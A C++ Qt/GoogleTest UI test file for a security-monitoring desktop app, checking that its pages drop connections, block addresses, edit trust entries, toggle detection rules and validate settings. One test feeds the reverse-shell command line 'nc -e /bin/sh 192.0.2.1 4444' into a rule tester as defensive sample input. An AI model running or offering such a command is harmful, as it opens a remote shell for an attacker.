// The later pages as a person uses them: by keys and buttons, intents come out.
#include <gtest/gtest.h>

#include <QAction>
#include <QApplication>
#include <QCheckBox>
#include <QComboBox>
#include <QDialog>
#include <QLineEdit>
#include <QPushButton>
#include <QSignalSpy>
#include <QTest>
#include <QToolButton>
#include <QTreeView>

#include "tests/ui/FakePages.h"
#include "tests/ui/FakeValues.h"
#include "tests/ui/Picture.h"
#include "ui/MainWindow.h"
#include "ui/network/ConnectionTableModel.h"
#include "ui/network/NetworkPage.h"
#include "ui/processes/ProcessPage.h"
#include "ui/rules/RuleTestBox.h"
#include "ui/rules/RulesPage.h"
#include "ui/settings/SettingEditor.h"
#include "ui/settings/SettingPanel.h"
#include "ui/settings/SettingsPage.h"
#include "ui/trust/TrustEntryDialog.h"
#include "ui/trust/TrustList.h"
#include "ui/widgets/StatePanel.h"
#include "ui/widgets/TextLabel.h"

namespace {

class Pages : public testing::Test {
  protected:
    void SetUp() override {
        window.show();
        window.setHealth(fake::health());
        window.setReachable(true);
        window.setProcesses(fake::processes());
        window.setAlerts(fake::alerts());
        window.networkPage()->setConnections(fake::connections());
        window.networkPage()->setBlocks(fake::blocks());
        window.rulesPage()->setRules(fake::rules());
        window.settingsPage()->setSettings(fake::settings());
        window.settingsPage()->setTrust(fake::trust());
        (void)QTest::qWaitForWindowActive(&window);
    }
    void open(const char* page) {
        window.showPage(QLatin1String(page));
        QApplication::processEvents();
    }
    template <typename Button>
    void click(const QWidget* in, const QString& name) {
        for (Button* each : in->findChildren<Button*>()) {
            if (!each->isVisible() ||
                (each->text().trimmed() != name && each->accessibleName() != name))
                continue;
            QTest::mouseClick(each, Qt::LeftButton);
            QApplication::processEvents();
            return;
        }
        FAIL() << "no button " << name.toStdString();
    }
    QDialog* dialog() const {
        for (QDialog* each : window.findChildren<QDialog*>()) {
            if (each->isVisible())
                return each;
        }
        return nullptr;
    }
    QString textsOf(const QWidget* in) const {
        QString texts;
        for (const ui::TextLabel* label : in->findChildren<ui::TextLabel*>())
            if (label->isVisible())
                texts += label->fullText() + QLatin1Char('\n');
        return texts;
    }
    bool stateShown(ui::StatePanel::Kind kind) const {
        for (const ui::StatePanel* panel : window.findChildren<ui::StatePanel*>()) {
            if (panel->isVisible() && panel->kind() == kind)
                return true;
        }
        return false;
    }
    void type(const char* key, const char* text) {
        window.settingsPage()
            ->panel(QLatin1String(key))
            ->editor()
            ->findChild<QLineEdit*>()
            ->setText(QLatin1String(text));
    }

    ui::MainWindow window;
};

TEST_F(Pages, EveryOneIsAKeyAway) {
    for (const auto& [code, name] :
         {std::pair{Qt::Key_4, "network"}, {Qt::Key_5, "rules"}, {Qt::Key_6, "settings"}}) {
        QTest::keyClick(&window, code, Qt::ControlModifier);
        EXPECT_EQ(window.currentPage(), QLatin1String(name));
    }
}

TEST_F(Pages, NothingOldIsShownAsNowWhenTheHelperIsGone) {
    window.setReachable(false, QStringLiteral("It is stopped."));
    for (const char* page : {"network", "rules", "settings"}) {
        open(page);
        EXPECT_TRUE(stateShown(ui::StatePanel::Kind::Problem)) << page;
    }
    window.setReachable(true);
    EXPECT_FALSE(stateShown(ui::StatePanel::Kind::Problem));
    for (const char* page : {"network", "rules", "settings"}) {
        window.setPageProblem(QLatin1String(page), QStringLiteral("Denied."), true);
        open(page);
        EXPECT_TRUE(stateShown(ui::StatePanel::Kind::NoPermission)) << page;
    }
}

TEST_F(Pages, AConnectionIsDroppedAfterTheQuestion) {
    QSignalSpy spy(window.networkPage(), &ui::NetworkPage::dropRequested);
    open("network");
    window.networkPage()->select(105);
    window.networkPage()->drop();
    ASSERT_NE(dialog(), nullptr);
    EXPECT_TRUE(textsOf(dialog()).contains(QStringLiteral("203.0.113.7:4444")));
    click<QPushButton>(dialog(), QStringLiteral("Cancel"));
    EXPECT_EQ(spy.size(), 0);
    window.networkPage()->drop();
    click<QPushButton>(dialog(), QStringLiteral("Drop"));
    ASSERT_EQ(spy.size(), 1);
    EXPECT_EQ(spy.front().front().toULongLong(), 105U);
}

TEST_F(Pages, AnAddressIsBlockedOnceHoweverManyConnectionsItHas) {
    model::ConnectionRow twin = fake::connections().changed.front();
    twin.id = 900;
    window.networkPage()->setConnections({0, false, {twin}, {}});
    QSignalSpy spy(window.networkPage(), &ui::NetworkPage::blockRequested);
    open("network");
    auto* view = window.networkPage()->findChild<QTreeView*>();
    view->selectAll();
    window.networkPage()->block(3600);
    click<QPushButton>(dialog(), QStringLiteral("Block"));
    QStringList blocked;
    for (const QVariantList& each : spy) {
        blocked << each.front().toString();
        EXPECT_EQ(each.at(1).toUInt(), 3600U);
    }
    EXPECT_EQ(blocked.count(QStringLiteral("198.51.100.24")), 1);
    EXPECT_EQ(blocked.size(), 6) << "a listener has no address to block";
}

TEST_F(Pages, AListenerCanNeitherBeDroppedNorBlocked) {
    open("network");
    window.networkPage()->select(106);
    window.networkPage()->drop();
    window.networkPage()->block(0);
    EXPECT_EQ(dialog(), nullptr);
}

TEST_F(Pages, ABlockIsTakenBackWhereItIsShown) {
    QSignalSpy spy(window.networkPage(), &ui::NetworkPage::unblockRequested);
    open("network");
    click<QToolButton>(window.networkPage(), QStringLiteral("Unblock 203.0.113.7"));
    ASSERT_EQ(spy.size(), 1);
    EXPECT_EQ(spy.front().front().toString(), QStringLiteral("203.0.113.7"));
    window.networkPage()->setBlocks({});
    EXPECT_FALSE(textsOf(window.networkPage()).contains(QStringLiteral("Blocked")));
}

TEST_F(Pages, AConnectionLeadsToItsProcess) {
    open("network");
    window.networkPage()->select(105);
    Q_EMIT window.networkPage()->processWanted({4242, 4242 * 37});
    EXPECT_EQ(window.currentPage(), QStringLiteral("processes"));
}

TEST_F(Pages, ChosenConnectionsStayChosenWhileOthersComeAndGo) {
    open("network");
    window.networkPage()->select(105);
    model::ConnectionChanges changes;
    changes.gone = {100, 101};
    model::ConnectionRow fresh = fake::connections().changed.front();
    fresh.id = 500;
    changes.changed = {fresh};
    window.networkPage()->setConnections(changes);
    QSignalSpy spy(window.networkPage(), &ui::NetworkPage::dropRequested);
    window.networkPage()->drop();
    click<QPushButton>(dialog(), QStringLiteral("Drop"));
    ASSERT_EQ(spy.size(), 1);
    EXPECT_EQ(spy.front().front().toULongLong(), 105U);
}

TEST_F(Pages, TrustFromAConnectionStartsWithTheNarrowestEntry) {
    QSignalSpy spy(&window, &ui::MainWindow::trustRequested);
    open("network");
    window.networkPage()->select(103);
    click<QToolButton>(window.networkPage(), QStringLiteral("Trust…"));
    ASSERT_NE(dialog(), nullptr);
    EXPECT_TRUE(textsOf(dialog()).contains(QStringLiteral("last 7 days")));
    click<QPushButton>(dialog(), QStringLiteral("Trust"));
    ASSERT_EQ(spy.size(), 1);
    const auto entry = spy.front().front().value<model::TrustEntry>();
    EXPECT_EQ(entry.match.at("domain"), "imap.example.org");
    EXPECT_FALSE(entry.untilUs);
}

TEST_F(Pages, ATrustEntryIsCheckedWhileItIsTyped) {
    open("settings");
    Q_EMIT window.settingsPage()->trustWanted({{{"path", "/usr/bin/bash"}}, {}, {}, {}});
    auto* made = window.findChild<ui::TrustEntryDialog*>();
    ASSERT_NE(made, nullptr);
    const auto trust = [made] {
        for (QPushButton* each : made->findChildren<QPushButton*>())
            if (each->text() == QLatin1String("Trust"))
                return each->isEnabled();
        return false;
    };
    EXPECT_TRUE(trust());
    QLineEdit* value = nullptr;
    for (QLineEdit* each : made->findChildren<QLineEdit*>())
        if (each->text() == QLatin1String("/usr/bin/bash"))
            value = each;
    ASSERT_NE(value, nullptr);
    value->setText(QStringLiteral("usr/bin/bash"));
    EXPECT_FALSE(trust());
    EXPECT_TRUE(textsOf(made).contains(QStringLiteral("needs another value")));
    value->setText(QStringLiteral("/usr/bin/bash"));
    click<QToolButton>(made, QStringLiteral("+ Another condition"));
    EXPECT_FALSE(trust()) << "the new condition is empty";
    click<QToolButton>(made, QStringLiteral("Remove the condition"));
    EXPECT_FALSE(trust()) << "the first one was removed";
}

TEST_F(Pages, ARuleIsSwitchedByKeyAndShownOnlyWhenInForce) {
    QSignalSpy spy(window.rulesPage(), &ui::RulesPage::switchRequested);
    open("rules");
    window.rulesPage()->select(QStringLiteral("cryptominer"));
    auto* box = window.rulesPage()->findChild<QCheckBox*>();
    ASSERT_NE(box, nullptr);
    QTest::mouseClick(box, Qt::LeftButton, {}, QPoint(8, box->height() / 2));
    ASSERT_EQ(spy.size(), 1);
    EXPECT_EQ(spy.front().at(0).toString(), QStringLiteral("cryptominer"));
    EXPECT_FALSE(spy.front().at(1).toBool());
    EXPECT_TRUE(box->isChecked()) << "nothing has changed yet";
    auto rules = fake::rules();
    rules[2].enabled = false;
    window.rulesPage()->setRules(rules);
    EXPECT_FALSE(box->isChecked());
}

TEST_F(Pages, ARuleThatWouldKillIsAskedAboutFirst) {
    QSignalSpy spy(window.rulesPage(), &ui::RulesPage::responseRequested);
    open("rules");
    window.rulesPage()->select(QStringLiteral("unknown-process"));
    auto* response = window.rulesPage()->findChild<QComboBox*>();
    const auto choose = [response](const char* word) {
        const int at = response->findData(QLatin1String(word));
        response->setCurrentIndex(at);
        Q_EMIT response->activated(at);
        QApplication::processEvents();
    };
    choose("suspend");
    ASSERT_EQ(spy.size(), 1);
    EXPECT_EQ(response->currentData().toString(), QStringLiteral("notify"));
    choose("kill");
    EXPECT_EQ(spy.size(), 1);
    ASSERT_NE(dialog(), nullptr);
    click<QPushButton>(dialog(), QStringLiteral("Kill from now on"));
    ASSERT_EQ(spy.size(), 2);
    EXPECT_EQ(spy.at(1).at(1).toString(), QStringLiteral("kill"));
}

TEST_F(Pages, ACommandLineIsTestedAndLeadsToTheRule) {
    qRegisterMetaType<ui::RuleTest>();
    QSignalSpy spy(window.rulesPage(), &ui::RulesPage::testRequested);
    open("rules");
    ui::RuleTestBox* box = window.rulesPage()->testBox();
    box->test();
    EXPECT_EQ(spy.size(), 0) << "nothing to test yet";
    box->setCommandLine(QStringLiteral("nc -e /bin/sh 192.0.2.1 4444"));
    box->test();
    ASSERT_EQ(spy.size(), 1);
    EXPECT_EQ(spy.front().front().value<ui::RuleTest>().commandLine,
              QStringLiteral("nc -e /bin/sh 192.0.2.1 4444"));
    window.rulesPage()->setTestResult({{QStringLiteral("second-root-account")}, {}});
    window.rulesPage()->setKind(1);  // where it is not in sight
    QApplication::processEvents();
    click<QToolButton>(box, QStringLiteral("Show the rule Second account with the number 0"));
    EXPECT_TRUE(textsOf(window.rulesPage()).contains(QStringLiteral("An account with all")));
    window.rulesPage()->setTestResult({{}, QStringLiteral("<b>not installed</b>\n")});
    EXPECT_TRUE(textsOf(box).contains(QStringLiteral("<b>not installed</b>\\n")));
}

TEST_F(Pages, ASettingIsSavedOnlyWhenItIsAllowed) {
    QSignalSpy spy(window.settingsPage(), &ui::SettingsPage::saveRequested);
    open("settings");
    window.settingsPage()->showSection(QStringLiteral("resources"));
    QApplication::processEvents();
    ui::SettingPanel* panel = window.settingsPage()->panel(QStringLiteral("resources.cpu_percent"));
    EXPECT_FALSE(panel->isChanged());
    type("resources.cpu_percent", "101");
    panel->save();
    EXPECT_EQ(spy.size(), 0);
    EXPECT_TRUE(textsOf(panel).contains(QStringLiteral("Allowed: a whole number, 1 to 100 %")));
    type("resources.cpu_percent", "70");
    click<QToolButton>(panel, QStringLiteral("Save Processor limit"));
    ASSERT_EQ(spy.size(), 1);
    EXPECT_EQ(spy.front(), (QVariantList{"resources.cpu_percent", "70"}));
    EXPECT_TRUE(panel->isChanged()) << "it is not in force yet";
    QJsonObject now = fake::settings();
    now.insert("resources", QJsonObject{{"cpu_percent", 70}});
    window.settingsPage()->setSettings(now);
    EXPECT_FALSE(panel->isChanged());
}

TEST_F(Pages, WhatOneTypesIsNotOverwrittenByWhatArrives) {
    open("settings");
    ui::SettingPanel* panel = window.settingsPage()->panel(QStringLiteral("ask.timeout_s"));
    type("ask.timeout_s", "45");
    QJsonObject now = fake::settings();
    now.insert("ask", QJsonObject{{"timeout_s", 60}});
    window.settingsPage()->setSettings(now);
    EXPECT_EQ(panel->editor()->value(), QJsonValue(45));
    panel->discard();
    EXPECT_EQ(panel->editor()->value(), QJsonValue(60));
}

TEST_F(Pages, AFileOnlySettingCannotBeEdited) {
    open("settings");
    ui::SettingPanel* panel = window.settingsPage()->panel(QStringLiteral("mail.server"));
    ASSERT_NE(panel, nullptr);
    EXPECT_EQ(panel->editor()->findChild<QLineEdit*>(), nullptr);
    EXPECT_FALSE(panel->isChanged());
}

TEST_F(Pages, ATrustEntryIsRemovedAfterTheQuestion) {
    QSignalSpy spy(window.settingsPage(), &ui::SettingsPage::untrustRequested);
    open("settings");
    window.settingsPage()->showSection(QStringLiteral("trust"));
    window.settingsPage()->trust()->select("t2");
    window.settingsPage()->trust()->remove();
    ASSERT_NE(dialog(), nullptr);
    click<QPushButton>(dialog(), QStringLiteral("Remove"));
    ASSERT_EQ(spy.size(), 1);
    EXPECT_EQ(spy.front().front().toString(), QStringLiteral("t2"));
}

}  // namespace
